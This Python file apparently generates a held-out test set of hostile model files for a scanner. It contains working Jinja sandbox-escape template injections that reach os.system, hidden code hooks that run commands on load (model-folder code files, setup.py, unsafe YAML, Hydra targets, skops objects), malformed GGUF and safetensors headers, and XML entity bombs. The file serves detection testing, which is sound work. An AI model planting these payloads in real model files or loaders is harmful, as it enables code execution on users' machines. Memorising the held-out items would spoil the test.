"""Hostile files of the sixth round: templates, safetensors, code hooks of model folders, and others."""

import json
import marshal  # noqa: TID251 - written, never read
import struct
import zlib
from collections.abc import Iterator

import numpy as np

from held_out.sixth_asm import CANARY, CMD, EXPR, Loaded, system, whole
from held_out.sixth_containers import archive, objects, packed
from held_out.sixth_gguf import f, gguf, string
from held_out.sixth_zip import zipped

Row = tuple[str, dict[str, bytes], str]
CHAT = "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{{ eos_token }}{% endfor %}"
SEARCH = "{% for c in ''.__class__.__mro__[-1].__subclasses__() if c.__name__ == '_wrap_close' %}"


def j(**keys: object) -> bytes:
    return json.dumps(keys, indent=2).encode()


def injections() -> list[tuple[str, str]]:
    """Return expressions that leave a template, each run by a loader without a sandbox."""
    run = f".system('{CMD}')"
    return [
        ("joiner", f"{{{{ joiner.__init__.__globals__.os{run} }}}}"),
        ("namespace", f"{{{{ namespace.__init__.__globals__['os']{run} }}}}"),
        ("lipsum_get", f"{{{{ lipsum.__globals__.get('os'){run} }}}}"),
        ("lipsum_attr", f"{{% set g = lipsum|attr('__glo' ~ 'bals__') %}}{{{{ (g|attr('get')('os'))|attr('system')('{CMD}') }}}}"),
        ("lipsum_hex", f"{{{{ lipsum['\\x5f\\x5fglobals\\x5f\\x5f']['os']{run} }}}}"),
        ("lipsum_join", f"{{{{ (lipsum|attr(['_' * 2, 'globals', '_' * 2]|join))['os']{run} }}}}"),
        ("function", f"{{{{ raise_exception.__globals__['__builtins__']['eval'](\"{EXPR}\") }}}}"),
        ("function_code", f"{{% if false %}}x{{% endif %}}{{{{ raise_exception['__globals__']['json']['codecs']['builtins']['exec'](\"{EXPR}\") }}}}"),
        ("subclasses", f"{SEARCH}{{{{ c.__init__.__globals__['system']('{CMD}') }}}}{{% endfor %}}"),
        ("subclasses_of_messages", "{% for c in messages.__class__.__base__.__subclasses__() if c.__name__ == 'Popen' %}{{ c(['touch', '" + CANARY + "']) }}{% endfor %}"),
        ("self", f"{{{{ self._TemplateReference__context.cycler.__init__.__globals__.os{run} }}}}"),
        ("self_environment", f"{{{{ self.__init__.__globals__.__builtins__.__import__('os'){run} }}}}"),
        ("map_attribute", f"{{% set g = [joiner]|map(attribute='__init__.__globals__')|first %}}{{{{ g['os']{run} }}}}"),
        ("sum_attribute", f"{{% set g = [lipsum]|map(attribute='__globals__')|list %}}{{{{ g[0].os{run} }}}}"),
        ("set_block", f"{{% set n %}}__globals__{{% endset %}}{{{{ lipsum[n|string]['os']{run} }}}}"),
        ("reverse", f"{{{{ lipsum['__slabolg__'|reverse]['os']{run} }}}}"),
        ("replace", f"{{{{ lipsum['..globals..'|replace('.', '_')]['o' 's']{run} }}}}"),
        ("format", f"{{{{ lipsum['%cglobals%c'|replace('%c', '__')].os{run} }}}}"),
        ("macro", "{% macro m(a) %}{{ caller.__globals__ if false else cycler.next.__globals__.os.system(a) }}{% endmacro %}" + CHAT + "{{ m('" + CMD + "') }}"),
        ("filter_block", f"{{% for m in messages %}}{{% if loop.last %}}{{{{ loop.__init__.__globals__.sys.modules.os{run} }}}}{{% endif %}}{{% endfor %}}"),
        ("undefined", f"{{{{ nothing.__init__.__globals__.sys.modules.posix{run} }}}}"),
        ("do", f"{{%- do cycler.__init__.__globals__.os{run} -%}}"),
        ("context", f"{{% set u = '_' %}}{{{{ lipsum[u+u+'globals'+u+u]['os']['popen']('{CMD}')['read']() }}}}"),
        ("generator", f"{{{{ (messages|map('upper')).gi_frame.f_builtins['eval'](\"{EXPR}\") }}}}"),
    ]  # fmt: skip


def templates() -> Iterator[Row]:
    """Put each where a loader takes its template from."""
    words = {
        "tokenizer.ggml.model": "llama",
        "tokenizer.ggml.tokens": ["<s>", "</s>", "a"],
        "tokenizer.ggml.scores": [0.0, 0.0, -1.0],
    }
    for at, (name, bad) in enumerate(injections()):
        source = bad if at % 3 == 0 else CHAT + bad if at % 3 == 1 else bad + CHAT
        match at % 8:
            case 0:
                data = gguf(
                    {"general.architecture": "llama", **words, "tokenizer.chat_template": source},
                    {"t": ((4,), 0, bytes(16))},
                )
                yield f"{name}.gguf", {f"{name}.gguf": data}, "gguf"
            case 1:
                yield (
                    f"{name}_config",
                    {
                        "tokenizer_config.json": j(
                            tokenizer_class="LlamaTokenizer", bos_token="<s>", chat_template=source
                        )
                    },
                    "template",
                )
            case 2:
                yield f"{name}.jinja", {"chat_template.jinja": source.encode()}, "jinja"
            case 3:
                both = [
                    {"name": "default", "template": CHAT},
                    {"name": "tool_use", "template": source},
                ]
                yield (
                    f"{name}_list",
                    {"tokenizer_config.json": j(tokenizer_class="X", chat_template=both)},
                    "template",
                )
            case 4:
                data = gguf(
                    {
                        "general.architecture": "qwen2",
                        **words,
                        "tokenizer.chat_template": CHAT,
                        "tokenizer.chat_template.rag": source,
                        "tokenizer.chat_templates": ["rag"],
                    }
                )
                yield f"{name}_named.gguf", {f"{name}.gguf": data}, "gguf"
            case 5:
                yield (
                    f"{name}_processor",
                    {"chat_template.json": j(chat_template=source)},
                    "template",
                )
            case 6:
                yield (
                    f"{name}_additional",
                    {"additional_chat_templates/tool.jinja": source.encode()},
                    "jinja",
                )
            case _:
                yield (
                    f"{name}_processor_config",
                    {"processor_config.json": j(processor_class="X", chat_template=source)},
                    "template",
                )


def malformed() -> Iterator[Row]:
    words = {"general.architecture": "llama"}
    yield "tensor_count.gguf", {"m.gguf": gguf(words, tensors=1 << 60)}, "construction"
    yield (
        "dimensions.gguf",
        {"m.gguf": gguf(words, {"t": ((1 << 40, 1 << 40), 0, bytes(16))})},
        "construction",
    )
    yield (
        "offset.gguf",
        {"m.gguf": gguf(words, {"t": ((4,), 0, bytes(16))}, offset=1 << 48)},
        "construction",
    )
    yield (
        "string_length.gguf",
        {"m.gguf": gguf(words | {"a": struct.pack("<IQ", 8, (1 << 64) - 8) + b"abc"})},
        "construction",
    )
    yield (
        "array_of_arrays.gguf",
        {
            "m.gguf": gguf(
                words
                | {
                    "a": struct.pack("<I", 9)
                    + struct.pack("<IQ", 9, 1) * 200
                    + struct.pack("<IQ", 0, 0)
                }
            )
        },
        "construction",
    )
    yield (
        "unknown_type.gguf",
        {"m.gguf": gguf(words | {"a": struct.pack("<I", 77) + bytes(8)})},
        "construction",
    )


def safe(header: bytes, data: bytes = b"", length: int | None = None) -> bytes:
    return struct.pack("<Q", len(header) if length is None else length) + header + data


def tensors() -> Iterator[Row]:
    one = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    rows = {
        "length_huge": safe(b"{}", b"", 1 << 62), "past_end": safe(j(a=one | {"data_offsets": [0, 1 << 40], "shape": [1 << 38]}), bytes(8)),
        "overflow": safe(j(a=one | {"shape": [1 << 33, 1 << 31, 2]}), bytes(8)), "duplicate": safe(b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"U8","shape":[8],"data_offsets":[0,8]}}', bytes(8)),
        "unknown_type": safe(j(a=one | {"dtype": "OBJECT"}), bytes(8)), "backwards": safe(j(a=one | {"data_offsets": [8, 0]}), bytes(8)),
        "tail_zip": safe(j(a=one), bytes(8)) + zipped(archive(whole(system()))), "gap": safe(j(a=one, b=one | {"data_offsets": [200, 208]}), bytes(8) + whole(system()).ljust(192, b"\0") + bytes(8)),
    }  # fmt: skip
    for name, data in rows.items():
        yield f"{name}.safetensors", {f"{name}.safetensors": data}, "construction"


def hooks() -> Iterator[Row]:
    evil = f"import os\n\nos.system('{CMD}')\n\n\nclass Net:\n    pass\n".encode()
    yield (
        "image_processor",
        {
            "preprocessor_config.json": j(auto_map={"AutoImageProcessor": "processing.Net"}),
            "processing.py": evil,
        },
        "construction",
    )
    yield (
        "remote_repository",
        {
            "config.json": j(
                model_type="a", auto_map={"AutoModelForCausalLM": "other/repo--modeling.Net"}
            )
        },
        "construction",
    )
    yield (
        "custom_pipeline",
        {
            "config.json": j(
                model_type="a", custom_pipelines={"text": {"impl": "pipe.Net", "pt": ["AutoModel"]}}
            ),
            "pipe.py": evil,
        },
        "construction",
    )
    yield (
        "diffusers",
        {
            "model_index.json": j(_class_name=["pipeline", "Net"], unet=["unet_own", "Net"]),
            "pipeline.py": evil,
            "unet/unet_own.py": evil,
        },
        "construction",
    )
    yield (
        "sentence_transformers",
        {
            "modules.json": json.dumps(
                [{"idx": 0, "name": "0", "path": "", "type": "own.Net"}]
            ).encode(),
            "own.py": evil,
        },
        "construction",
    )
    yield (
        "endpoint_handler",
        {
            "handler.py": b"class EndpointHandler:\n    def __init__(self, path=''):\n        __import__('os').system('"
            + CMD.encode()
            + b"')\n",
            "config.json": j(model_type="bert"),
        },
        "construction",
    )
    yield (
        "mlflow_loader",
        {
            "MLmodel": b"flavors:\n  python_function:\n    loader_module: evil\n    code: code\n    python_version: 3.11.7\n",
            "code/evil.py": evil,
        },
        "construction",
    )
    yield (
        "yaml_object",
        {"params.yaml": f"lr: 0.1\nhook: !!python/object/apply:os.system ['{CMD}']\n".encode()},
        "yamlunsafe",
    )
    yield (
        "yaml_apply_mapping",
        {
            "config.yaml": f"!!python/object/apply:subprocess.Popen\nargs: [['touch', '{CANARY}']]\n".encode()
        },
        "yamlunsafe",
    )
    yield (
        "hydra_target",
        {
            "config.yaml": f"model:\n  _target_: subprocess.getoutput\n  _args_: ['{CMD}']\n".encode()
        },
        "construction",
    )
    yield "setup", {"setup.py": evil, "requirements.txt": b"-e .\n"}, "construction"


def pmml() -> bytes:
    layers = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY a0 "aaaaaaaaaa">{layers}]><PMML version="4.4"><Header description="&a11;"/></PMML>'.encode()


def skops(node: dict[str, object], more: dict[str, bytes] | None = None) -> bytes:
    schema = {"protocol": 2, "_skops_version": "0.16.0"} | node
    return packed({"schema.json": json.dumps(schema).encode(), **(more or {})})


def others() -> Iterator[Row]:
    text = {
        "__class__": "str",
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "__id__": 3,
        "content": f'"{CMD}"',
        "is_json": True,
    }
    partial = {
        "__class__": "partial",
        "__module__": "functools",
        "__loader__": "PartialNode",
        "__id__": 1,
        "content": {
            "func": {
                "__class__": "system",
                "__module__": "posix",
                "__loader__": "FunctionNode",
                "__id__": 2,
                "content": {"module_path": "posix", "function": "system"},
            },
            "args": text,
            "kwargs": text,
            "namespace": text,
        },
    }
    yield "partial.skops", {"m.skops": skops(partial)}, "construction"
    method = {
        "__class__": "method",
        "__module__": "types",
        "__loader__": "MethodNode",
        "__id__": 1,
        "content": {
            "func": "system",
            "obj": {
                "__class__": "module",
                "__module__": "os",
                "__loader__": "ObjectNode",
                "__id__": 4,
                "content": text,
            },
        },
    }
    yield "method.skops", {"m.skops": skops(method)}, "construction"
    array = {
        "__class__": "ndarray",
        "__module__": "numpy",
        "__loader__": "NdArrayNode",
        "__id__": 1,
        "type": "numpy",
        "file": "1.npy",
    }
    yield (
        "object_array.skops",
        {"m.skops": skops(array, {"1.npy": objects(whole(system()))})},
        "construction",
    )
    yield "entities.pmml", {"m.pmml": pmml()}, "construction"
    yield (
        "parameter.pmml",
        {
            "m.pmml": b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY % p SYSTEM "http://127.0.0.1:9/a.dtd">%p;]><PMML version="4.4"><Header/></PMML>'
        },
        "construction",
    )
    code = compile(EXPR, "a", "exec")
    yield (
        "compiled.pyc",
        {"model.pyc": b"\xa7\r\r\n" + bytes(12) + marshal.dumps(code)},
        "construction",
    )
    yield (
        "windows.dll",
        {"model.dll": b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0\x64\x86" + bytes(200)},
        "construction",
    )
    yield (
        "macho.bin",
        {"model.bin": b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x06\0\0\0" + bytes(100)},
        "construction",
    )
    yield (
        "shared.so",
        {"libop.so": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0\x01\0\0\0" + bytes(120)},
        "construction",
    )
    yield (
        "java.ser",
        {
            "model.bin": b"\xac\xed\0\x05sr\0\x17java.util.PriorityQueue\x94\xda\x30\xb4\xfb\x3f\x82\xb1\x03\0\x02I\0\x04size"
            + bytes(40)
        },
        "construction",
    )
    flax = (
        b"\x82\xa6params\x81\xa1w\xc7"
        + bytes([len(objects(whole(system()))) & 255])
        + b"\x01"
        + objects(whole(system()))
    )
    yield "flax.msgpack", {"flax_model.msgpack": flax}, "construction"
    yield (
        "booster.ubj",
        {
            "m.ubj": b"{L\0\0\0\0\0\0\0\x07learner{L\0\0\0\0\0\0\0\x05trees[$d#L\x7f\xff\xff\xff\xff\xff\xff\xff"
        },
        "construction",
    )
    operator = f(1, f(1, "CustomShell") + f(2, CMD))
    yield (
        "workspace.rda",
        {
            "model.rda": zlib.compress(
                b"RDX3\nX\n\0\0\0\x03\0\x04\x03\0\0\x03\x05\0\0\0\0\x05UTF-8\0\0\0\x05" + operator
            )
        },
        "construction",
    )
    yield (
        "macro.mlmodel",
        {
            "model.mlmodel": f(1, 5)
            + f(500, f(1, f(1, "custom") + f(500, f(10, "EvilLayer") + string("os.system"))))
        },
        "construction",
    )


def samples(_: np.random.Generator) -> Iterator[Loaded]:
    for category, rows in (
        ("F05 templates", templates()),
        ("F05 GGUF malformed", malformed()),
        ("F06 safetensors", tensors()),
        ("F07 code hooks", hooks()),
        ("F08 other", others()),
    ):
        for name, files, how in rows:
            if category.startswith("F05 t") and how != "gguf":
                yield Loaded(category, name, files, f"{how}:{next(iter(files))}")
            else:
                yield Loaded(category, name, files, how)
